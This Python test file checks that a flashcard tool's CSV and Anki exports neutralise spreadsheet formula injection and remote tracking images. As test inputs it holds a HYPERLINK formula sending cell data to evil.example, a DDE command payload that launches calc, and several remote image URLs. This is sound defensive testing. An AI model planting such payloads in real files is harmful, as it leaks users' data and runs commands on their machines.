"""Exports a spreadsheet or Anki opens: no formula runs, no image is fetched.

A CSV cell starting with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return
before one) is run as a formula by Excel, LibreOffice and Google Sheets; the file
has a BOM, so it opens straight into a spreadsheet. Anki shows HTML fields and
fetches a remote ``<img>`` every time the card is shown (a tracking pixel).
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from flaskprep.deck_cache import load_deck
from flaskprep.export import to_anki_text, to_csv

from .support import run

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "＝1+1",
]


def formula_deck(tmp_path: Path) -> Path:
    lines = ["# Formulas", "", "## =Section title"]
    for number, formula in enumerate(FORMULAS, start=1):
        question = formula.replace("\r", "").replace("\t", "")
        lines += [f"- {question} question {number}?", f"  - **Answer:** {formula}"]
    lines += ["- Plain question?", "  - **Answer:** A plain answer - with a dash inside."]
    path = tmp_path / "formulas.md"
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return path


def is_formula(cell: str) -> bool:
    return cell.lstrip(" ").startswith(tuple("=+-@\t\r＝"))


def test_no_csv_cell_starts_a_formula(tmp_path: Path) -> None:
    deck = load_deck(formula_deck(tmp_path))
    rows = list(csv.reader(io.StringIO(to_csv(deck))))
    cells = [cell for row in rows[1:] for cell in row]
    assert not [cell for cell in cells if is_formula(cell)]
    assert any(cell.startswith("'=") for cell in cells)
    assert "A plain answer - with a dash inside." in cells  # plain text untouched


def test_csv_file_written_by_the_command_is_safe(tmp_path: Path) -> None:
    target = tmp_path / "out.csv"
    deck = formula_deck(tmp_path)
    assert run("--deck", str(deck), "export", "--format", "csv", "-o", str(target)).exit_code == 0
    text = target.read_text(encoding="utf-8-sig")
    cells = [cell for row in list(csv.reader(io.StringIO(text)))[1:] for cell in row]
    assert cells and not [cell for cell in cells if is_formula(cell)]


IMAGES = [
    "![pixel](https://evil.example/p.png)",
    '![pixel](http://evil.example/p.gif "title")',
    "![pixel](//evil.example/p.png)",
    "![pixel][ref]\n\n  [ref]: https://evil.example/r.png",
    "text ![](https://evil.example/empty.png) after",
]


@pytest.mark.parametrize("image", IMAGES)
def test_anki_export_fetches_no_remote_image(tmp_path: Path, image: str) -> None:
    path = tmp_path / "images.md"
    path.write_text(
        f"# Images\n\n## 1. S\n- What is shown {image.splitlines()[0]}?\n"
        f"  - **Answer:** This {image}\n",
        encoding="utf-8",
    )
    text = to_anki_text(load_deck(path))
    assert "evil.example" not in text.split("#guid column")[1].replace("&quot;", "")
    assert "<img" not in text


def test_anki_export_keeps_a_local_media_image(tmp_path: Path) -> None:
    path = tmp_path / "local.md"
    path.write_text(
        "# L\n\n## 1. S\n- What is the diagram?\n  - **Answer:** ![diagram](diagram.png)\n",
        encoding="utf-8",
    )
    assert '<img src="diagram.png" alt="diagram">' in to_anki_text(load_deck(path))
